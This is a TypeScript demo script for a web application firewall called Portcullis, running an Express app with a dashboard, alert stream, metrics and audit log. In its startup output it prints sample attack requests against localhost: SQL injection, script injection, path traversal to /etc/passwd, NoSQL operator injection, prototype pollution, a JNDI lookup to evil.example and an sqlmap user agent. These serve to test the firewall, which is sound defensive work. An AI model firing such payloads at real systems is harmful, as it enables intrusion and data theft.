/**
 * `npm run demo`: an Express app protected by Portcullis on its default rules.
 * Attacks are blocked with 403 and printed here as they arrive. Try the curl lines the demo prints.
 * Also mounted: the live dashboard and its WebSocket alert stream (token printed at start; set
 * PORTCULLIS_TOKEN to choose it), Prometheus metrics on /metrics, and the JSON-lines audit log
 * (PORTCULLIS_AUDIT_FILE, default in the system temp folder).
 */
import { randomBytes } from 'node:crypto';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import express from 'express';
import { Registry, collectDefaultMetrics } from 'prom-client';
import { alertStream, auditLog, dashboard, portcullis, prometheusMetrics, type Alert } from '../src/index.js';

const port = Number(process.env.PORT ?? 3000);
const app = express();
const waf = portcullis({
  mode: process.env.PORTCULLIS_MODE === 'detect' ? 'detect' : 'block',
  paranoia: 1,
  // Ten blocked requests within ten minutes ban the client for two minutes (watch it, and lift it, on the dashboard).
  bans: { file: false, jails: [{ name: 'waf', maxRetry: 10, findTimeMs: 600_000, banTimeMs: 120_000 }] },
});
const token = process.env.PORTCULLIS_TOKEN ?? randomBytes(12).toString('hex');
const auditFile = process.env.PORTCULLIS_AUDIT_FILE ?? join(tmpdir(), 'portcullis-demo-audit.jsonl');
const registry = new Registry();
collectDefaultMetrics({ register: registry });
auditLog(waf, { file: auditFile });

waf.on('alert', (a: Alert) => {
  const rules = a.matches.map((m) => `${m.id} ${m.message} [${m.target}]`).join('; ');
  console.log(`[portcullis] ${a.action.toUpperCase()} ${a.method} ${a.url} from ${a.clientIp} score=${a.score}/${a.threshold} incident=${a.incidentId}\n             ${rules}`);
});
waf.on('error', (err) => console.error('[portcullis] internal error:', err));

// The stream shares the app's HTTP server. The dashboard is mounted before the WAF so a ban never locks the
// operator (on the same address as the attacker, in a demo) out of the page that lifts it.
const server = createServer(app);
const stream = alertStream(waf, { server, authenticate: token });
const board = dashboard(waf, { stream });
app.use(board);
app.get('/metrics', prometheusMetrics(waf, { registry }));

app.use(waf);
app.use(express.json());
app.use(express.urlencoded({ extended: true }));

app.get('/', (_req, res) => {
  res.type('text/plain').send('Portcullis demo: this app is protected. Try the curl lines printed in the terminal.\n');
});
app.get('/search', (req, res) => {
  res.json({ query: req.query.q ?? '', results: [] });
});
app.post('/api/login', (req, res) => {
  const body = req.body as { user?: unknown };
  res.json({ ok: true, user: typeof body.user === 'string' ? body.user : null });
});
app.post('/comments', (req, res) => {
  res.status(201).json({ saved: req.body });
});

server.listen(port, '127.0.0.1', () => {
  const base = `http://127.0.0.1:${port}`;
  console.log(`Portcullis demo listening on ${base} (rules ${waf.rulesVersion}, mode ${waf.config.mode}, paranoia ${waf.config.paranoia})

Dashboard (live):  ${base}${board.path}?token=${token}
Alert stream:      ws://127.0.0.1:${port}${stream.path}  (Authorization: Bearer ${token}; see examples/alert-client.ts)
Metrics:           ${base}/metrics
Audit log:         ${auditFile}

Benign (passes):
  curl -s '${base}/search?q=select+a+plan'
  curl -s -X POST ${base}/api/login -H 'content-type: application/json' -d '{"user":"o'"'"'brien","password":"S3cr3t!"}'
Attacks (403 with an incident id):
  curl -si "${base}/search?q=1'%20OR%20'1'='1" | head -1
  curl -si "${base}/search?q=<script>alert(1)</script>" | head -1
  curl -si '${base}/search?file=../../../../etc/passwd' | head -1
  curl -si -X POST ${base}/api/login -H 'content-type: application/json' -d '{"user":{"$ne":null},"password":{"$ne":null}}' | head -1
  curl -si -X POST ${base}/comments -H 'content-type: application/json' -d '{"__proto__":{"admin":true}}' | head -1
  curl -si '${base}/search?q=$\{jndi:ldap://evil.example/a}' | head -1
  curl -si -A 'sqlmap/1.7' ${base}/ | head -1
`);
});

function shutdown(): void {
  server.close();
  void waf.close();
}
process.on('SIGINT', shutdown);
process.on('SIGTERM', shutdown);
